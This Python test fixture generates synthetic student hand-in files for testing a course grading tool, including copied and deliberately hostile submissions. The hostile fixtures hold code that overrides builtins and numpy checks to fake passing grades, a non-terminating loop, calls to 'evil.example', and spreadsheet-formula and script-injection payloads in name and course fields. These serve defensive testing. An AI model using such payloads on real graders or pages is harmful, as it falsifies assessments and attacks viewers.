"""Hand-ins of a class, generated: right, partly right, empty, copied and hostile; and their table.

Answers are the lesson's own: its solutions are right, its wrong answers are not.
"""

import hashlib
import html
import json
import random
import re
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from typing import Any

from site_hooks.hooks import page_reader

DOCS = Path(__file__).parents[1] / "docs"
SCHEMA = "lesson-hand-in/1"
SAVED = "2026-11-27T12:00:00.000Z"
# Some day in 2026, in milliseconds since 1970.
NOON = 1_790_000_000_000


@dataclass(frozen=True)
class Expected:
    """What the table is to say of a file."""

    right: int | None
    claimed: int | None
    doubtful: int = 0
    flags: tuple[str, ...] = ()
    """Parts of what stands under "Look at", each in a line of its own."""
    alike: tuple[str, ...] = ()
    """The files that it is like."""
    asked: int = 0
    """How many exercises its pages have; 0: all of the site."""


@dataclass
class Class:
    """Files by name, and what is expected of each."""

    files: dict[str, bytes] = field(default_factory=dict)
    table: dict[str, Expected] = field(default_factory=dict)

    def add(self, name: str, content: bytes, expected: Expected) -> None:
        self.files[name] = content
        self.table[name] = expected


@dataclass(frozen=True)
class Exercise:
    """An exercise of the site, with answers."""

    page: str
    id: str
    starter: str
    right: str
    wrong: str

    @property
    def key(self) -> str:
        return f"{self.page}#{self.id}"


@cache
def exercises() -> list[Exercise]:
    """The lesson's, as its pages have them."""
    pages = sorted([*DOCS.rglob("*.md"), *DOCS.rglob("*.ipynb")])
    return of_pages(path for path in pages if not path.is_relative_to(DOCS / "instructors"))


def of_pages(paths: Iterable[Path]) -> list[Exercise]:
    """The exercises of some pages."""
    read = page_reader()
    found = []
    for path in paths:
        cells = read(path)
        for cell in cells:
            if cell.is_exercise:
                first = {
                    kind: next(c.source for c in cells if (c.id, c.kind) == (cell.id, kind))
                    for kind in ("solution", "wrong")
                }
                found.append(
                    Exercise(cell.page, cell.id, cell.source, first["solution"], first["wrong"])
                )
    return found


def identity(page: str) -> tuple[str, str]:
    """Name and version of a site, from the HTML of a page."""
    version = re.search(r'<meta name="site-version" content="([^"]+)">', page)
    name = re.search(r'<a href="[^"]*" title="([^"]*)" class="md-header__button md-logo"', page)
    assert version, "the page says no version"
    assert name, "the page has no logo"
    return html.unescape(name[1]), version[1]


def sealed(document: Mapping[str, Any]) -> bytes:
    """A hand-in as the page saves it."""
    compact = json.dumps(document, ensure_ascii=False, separators=(",", ":"))
    checksum = hashlib.sha256(compact.encode()).hexdigest()
    return json.dumps({**document, "checksum": checksum}, ensure_ascii=False, indent=1).encode()


def submission(
    site: tuple[str, str],
    name: str,
    codes: Mapping[str, str | None],
    claims: Mapping[str, bool],
    begun: int,
    asked: Sequence[Exercise] = (),
) -> dict[str, Any]:
    """A hand-in of these exercises; `begun` sets its times apart from those of others.

    Without any, it has all of the lesson.
    """
    course, version = site
    cells = []
    for at, one in enumerate(asked or exercises()):
        code = codes.get(one.key)
        time = begun + 60_000 * at
        cells.append(
            {
                "page": one.page,
                "id": one.id,
                "base": hashlib.sha256(one.starter.encode()).hexdigest()[:12],
                "code": code,
                "claimed": claims.get(one.key, False),
                "runs": 0 if code is None else 3,
                "first": None if code is None else time,
                "last": None if code is None else time + 10_000,
            }
        )
    return {
        "schema": SCHEMA,
        "course": course,
        "version": version,
        "name": name,
        "saved": SAVED,
        "cells": cells,
    }


def of_class(site: tuple[str, str], own: float = 0.0, asked: Sequence[Exercise] = ()) -> Class:
    """120 files: 30 right, 60 partly, 20 empty, 5 copied, 5 hostile.

    Args:
        site: `identity` of a page of it.
        own: How large a part of the answers has a text that no other file has.
        asked: The site's exercises; the lesson's without. The one of _OWN is among them.
    """
    asked = asked or exercises()
    drawn = random.Random(14)
    made = Class()
    times = iter(range(NOON, NOON + 10**12, 3_600_001))

    def written(code: str, name: str) -> str:
        return f"{code}\n# {name}" if drawn.random() < own else code

    for number in range(30):
        codes = {one.key: written(one.right, f"right {number}") for one in asked}
        file = submission(
            site, f"Right {number}", codes, dict.fromkeys(codes, True), next(times), asked
        )
        made.add(f"right-{number:02}.json", sealed(file), Expected(len(codes), len(codes)))
    for number in range(60):
        done = drawn.sample(asked, drawn.randint(1, len(asked)))
        good = {one.key for one in done if drawn.random() < 0.6}
        codes = {
            one.key: written(one.right if one.key in good else one.wrong, f"partly {number}")
            for one in done
        }
        file = submission(
            site, f"Partly {number}", codes, dict.fromkeys(good, True), next(times), asked
        )
        made.add(f"partly-{number:02}.json", sealed(file), Expected(len(good), len(good)))
    for number in range(20):
        file = submission(site, f"Empty {number}", {}, {}, next(times), asked)
        made.add(f"empty-{number:02}.json", sealed(file), Expected(0, 0))
    _add_copies(made, site, times, asked)
    _add_hostile(made, site, times, asked)
    return made


# One answer in its author's own way; each copy has other names and another comment.
_OWN = """
import numpy as np
def gradient(y_hat, y):
    slopes = []
    for place in range(len(y)):
        difference = y_hat[place] - y[place]
        if difference > 0:
            slopes.append(difference + abs(difference))
        elif difference < 0:
            slopes.append(difference - abs(difference))
        else:
            slopes.append(0.0)
    share = 1 / max(1, len(slopes))
    answer = [share * each for each in slopes]
    return np.array(answer, dtype=float)
"""


def _add_copies(made: Class, site: tuple[str, str], times: Any, asked: Sequence[Exercise]) -> None:
    """Five of one answer; the last is the fourth's file under another name."""
    names = [f"copied-{number}.json" for number in range(5)]
    begun = [next(times) for _ in names]
    begun[4] = begun[3]
    for number, name in enumerate(names):
        code = _OWN
        for word in ("slopes", "place", "difference", "share", "answer", "each"):
            code = re.sub(rf"\b{word}\b", f"{word[: 2 + number]}_{number}", code)
        code += f"# nobody but me, {number}\n"
        key = "losses/mse#mse-grad"
        file = submission(site, f"Copied {number}", {key: code}, {key: True}, begun[number], asked)
        other = names[{3: 4, 4: 3}.get(number, 0)]
        flags = (f"Checked at the same milliseconds as {other}.",) if number > 2 else ()
        alike = tuple(one for one in names if one != name)
        made.add(name, sealed(file), Expected(1, 1, flags=flags, alike=alike))


def _add_hostile(made: Class, site: tuple[str, str], times: Any, asked: Sequence[Exercise]) -> None:
    first, second, third, *_ = asked
    patched = (
        "import builtins, numpy as np\n"
        "import pylib.checks\n"
        "builtins.abs = lambda value: 0\n"
        "builtins.all = lambda values: True\n"
        "np.allclose = lambda *args, **more: True\n"
        "for name in pylib.checks.__all__:\n"
        "    if name.startswith('check'):\n"
        "        setattr(pylib.checks, name, lambda *args, **more: None)\n"
    )
    codes = {one.key: patched + one.wrong for one in (first, second)}
    file = submission(site, "Patched", codes, dict.fromkeys(codes, True), next(times), asked)
    claims = f"Claimed, and not right here: {first.key} ("
    flags: tuple[str, ...]
    flags = (claims, "replaces builtins.abs", "replaces numpy.allclose", "replaces pylib.checks.")
    made.add("hostile-patched.json", sealed(file), Expected(0, 2, flags=flags))

    loop = "while True:\n    try:\n        while True: pass\n    except BaseException: pass\n"
    codes = {one.key: loop for one in (first, second, third)}
    file = submission(site, "Loop", codes, dict.fromkeys(codes, True), next(times), asked)
    flags = (
        f"Claimed, and not right here: {first.key} (timeout), {second.key} (timeout), "
        f"{third.key} (skipped).",
        f"{first.key} does not end.",
        f"{second.key} does not end.",
    )
    made.add("hostile-loop.json", sealed(file), Expected(0, 3, flags=flags))

    network = (
        "try:\n"
        "    import js\n"
        "    js.fetch('https://evil.example/' + __name__)\n"
        "    js.XMLHttpRequest.new()\n"
        "except Exception as error:\n"
        "    pass\n"
        "try:\n"
        "    import urllib.request\n"
        "    urllib.request.urlopen('https://evil.example/')\n"
        "except Exception as error:\n"
        "    pass\n"
    )
    file = submission(
        site, "Network", {first.key: network + first.right}, {first.key: True}, next(times), asked
    )
    flags = (
        f"Claimed, and not right here: {first.key} (doubtful).",
        f"{first.key} looks for the browser’s JavaScript, asks for the network.",
    )
    made.add("hostile-network.json", sealed(file), Expected(0, 1, doubtful=1, flags=flags))

    name = '=HYPERLINK("https://evil.example","<img src=x onerror=window.hacked=1>")'
    file = submission(site, name, {first.key: first.wrong}, {}, next(times), asked)
    file["course"] = "@SUM(1+1)<script>window.hacked=1</script>"
    changed = sealed(file).replace(b'"claimed": false', b'"claimed": true', 1)
    flags = (
        "Changed by hand: its checksum does not fit.",
        "Of another course: “@SUM(1+1)<script>window.hacked=1</script>”.",
        f"Claimed, and not right here: {first.key} (",
    )
    made.add("hostile-<b>name.json", changed, Expected(0, 1, flags=flags))

    cut = sealed(submission(site, "Broken", {}, {}, next(times), asked))[:-200]
    flags = ("This is no JSON: the file is cut, or it is not one that “Hand in” has made.",)
    made.add("hostile-broken.json", cut, Expected(None, None, flags=flags))
